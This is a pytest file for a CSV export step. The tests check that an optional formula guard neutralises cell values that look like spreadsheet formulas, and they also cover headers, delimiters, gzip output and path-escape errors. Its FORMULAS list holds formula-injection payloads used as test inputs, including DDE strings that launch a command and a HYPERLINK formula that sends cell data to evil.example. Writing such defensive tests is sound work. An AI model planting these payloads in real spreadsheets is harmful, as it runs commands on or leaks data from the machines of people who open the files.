"""Exports: CSV files for people, whose texts a spreadsheet takes for texts."""

import csv
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest

from firn_runtime import Edge, run_artifact
from firn_runtime.errors import ConnectorError
from firn_runtime.step import StepResult
from runtime.artifacts import job, payload, resource, spelled, step
from runtime.workbench import Workbench, connector

Make = Callable[..., Workbench]

FORMULAS = [
    "=1+1",
    '=HYPERLINK("http://evil.example/?x="&A1;"click")',
    "=cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "-1",
    "@SUM(1+9)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "\tharmless",
    "\0=1+1",
    "＝1+1",
    "＋1",
    "－1",
    "＠SUM(1)",
    " =1+1",
    "   \t @SUM(1)",
    '"=1+1',
    '" =1+1"',
    "\u00a0=1+1",
    "\ufeff=1+1",
]
HARMLESS = [
    "",
    "a=1",
    "1-2",
    "user@example.com",
    "'=1+1",
    "a\n=b",
    "O'Neill",
    'say "hi"',
    "a;=1",
    "1,5",
    "é",
    "(1)",
    "<b>",
]


@pytest.fixture
def work(bench: Make, tmp_path: Path) -> Workbench:
    return bench(out=connector("files", "local", written=True, root=str(tmp_path / "out")))


def export(work: Workbench, path: str = "for people.csv", **inputs: Any) -> StepResult:
    return work.do("export", {"from": "d", "resource": "out", "path": path, **inputs})


def lines(work: Workbench, path: str = "for people.csv", delimiter: str = ",") -> list[list[str]]:
    with (work.folder / "out" / path).open(encoding="utf-8", newline="") as file:
        return list(csv.reader(file, delimiter=delimiter))


def texts(work: Workbench, values: list[str]) -> None:
    work.session.execute(
        f"create or replace table {work.session.qualified('d')} as select unnest($v) as v", {"v": values}
    )


def test_a_dataset_is_exported_with_its_header(work: Workbench) -> None:
    work.make("d", "select 1 as id, 'Zoë' as name, 2.50 as amount, null as none, date '2026-01-01' as day")
    result = export(work)
    assert lines(work) == [["id", "name", "amount", "none", "day"], ["1", "Zoë", "2.50", "", "2026-01-01"]]
    size = (work.folder / "out" / "for people.csv").stat().st_size
    assert result.results == {"rows": 1, "columns": ["id", "name", "amount", "none", "day"], "bytes": size}


@pytest.mark.parametrize("text", FORMULAS, ids=ascii)
def test_what_looks_like_a_formula_is_a_text(work: Workbench, text: str) -> None:
    texts(work, [text])
    export(work, formula_guard=True)
    assert lines(work) == [["v"], ["'" + text]]


@pytest.mark.parametrize("text", HARMLESS, ids=ascii)
def test_every_other_text_stays_as_it_is(work: Workbench, text: str) -> None:
    texts(work, [text])
    export(work, formula_guard=True)
    assert lines(work) == [["v"], [text]]


def test_without_the_guard_nothing_is_changed(work: Workbench) -> None:
    texts(work, [*FORMULAS, *HARMLESS])
    export(work)
    assert [line[0] for line in lines(work)[1:]] == [*FORMULAS, *HARMLESS]


def test_numbers_and_moments_stay_what_they_are(work: Workbench) -> None:
    work.make(
        "d",
        "select -1 as a, -2.50::decimal(9,2) as b, -1e-7::double as c, '-inf'::double as d, null::varchar as e,"
        " date '2026-01-01' as f, timestamp '2026-01-01 00:00:00' as g, true as h, -5::hugeint as i",
    )
    export(work, formula_guard=True)
    assert lines(work)[1] == ["-1", "-2.50", "-1e-07", "-inf", "", "2026-01-01", "2026-01-01 00:00:00", "true", "-5"]


def test_texts_within_other_types_are_guarded(work: Workbench) -> None:
    work.make(
        "d", "select '=1'::blob as a, '\"=1\"'::json as b, '=x'::enum('=x') as c, interval '-1 day' as d, [-1] as e"
    )
    export(work, formula_guard=True)
    assert lines(work)[1] == ["'=1", '\'"=1"', "'=x", "'-1 day", "[-1]"]


def test_headers_are_guarded(work: Workbench) -> None:
    work.make("d", 'select 1 as "=1+1", 2 as "@x", 3 as plain, 4 as "a""b"')
    result = export(work, formula_guard=True)
    assert lines(work)[0] == ["'=1+1", "'@x", "plain", 'a"b']
    assert result.results["columns"] == ["'=1+1", "'@x", "plain", 'a"b']


def test_columns_are_chosen_in_their_order(work: Workbench) -> None:
    work.make("d", "select 1 as a, 2 as b, '=3' as c")
    export(work, columns=["C", "a"], formula_guard=True)
    assert lines(work) == [["c", "a"], ["'=3", "1"]]
    with pytest.raises(ConnectorError) as caught:
        export(work, columns=["x"])
    assert (caught.value.message, caught.value.help) == ("there is no column `x`", "there are `a`, `b`, `c`")


def test_the_file_is_laid_out_as_asked(work: Workbench) -> None:
    work.make("d", "select 1 as a, 'x;y' as b, null as c")
    export(work, format_options={"delimiter": ";", "header": False, "null_values": ["NULL"]})
    assert (work.folder / "out/for people.csv").read_text() == '1;"x;y";NULL\n'
    export(work, path="a/b.csv.gz")
    assert (work.folder / "out/a/b.csv.gz").read_bytes()[:2] == b"\x1f\x8b"
    export(work, path="people.tsv")
    assert lines(work, "people.tsv", "\t")[1] == ["1", "x;y", ""]


def test_a_file_without_an_ending_is_csv_too(work: Workbench) -> None:
    work.make("d", "select 1 as a")
    export(work, path="report")
    assert lines(work, "report") == [["a"], ["1"]]


def test_nothing_to_export_is_a_header(work: Workbench) -> None:
    work.make("d", "select 1 as a where false")
    result = export(work, formula_guard=True)
    assert (lines(work), result.no_data) == ([["a"]], True)


def test_a_second_export_takes_the_place_of_the_first(work: Workbench) -> None:
    for number in (1, 2):
        work.make("d", f"select {number} as a")
        export(work, formula_guard=True)
    assert lines(work) == [["a"], ["2"]]
    assert [path.name for path in (work.folder / "out").iterdir()] == ["for people.csv"]


def test_an_export_that_fails_leaves_no_view_behind(work: Workbench) -> None:
    work.make("d", "select 1 as a")
    with pytest.raises(ConnectorError):
        export(work, path="../out of it.csv", formula_guard=True)
    assert work.session.execute("select view_name from duckdb_views() where temporary and not internal") == []


def test_a_run_makes_the_folder_that_it_exports_to(tmp_path: Path) -> None:
    inputs = {"from": "d", "resource": "out", "path": "d.csv", "formula_guard": True}
    steps = step("d", "sql", sql="select '=1' as a"), step("report", "export") | {"inputs": inputs}
    body = payload(
        job("a", *steps), names={"out": "out"}, resources={"out": resource("files", "local", {"root": "out"})}
    )
    assert run_artifact(spelled(body), Edge({}, tmp_path)).status == "SUCCESS"
    assert (tmp_path / "out/d.csv").read_text() == "a\n'=1\n"
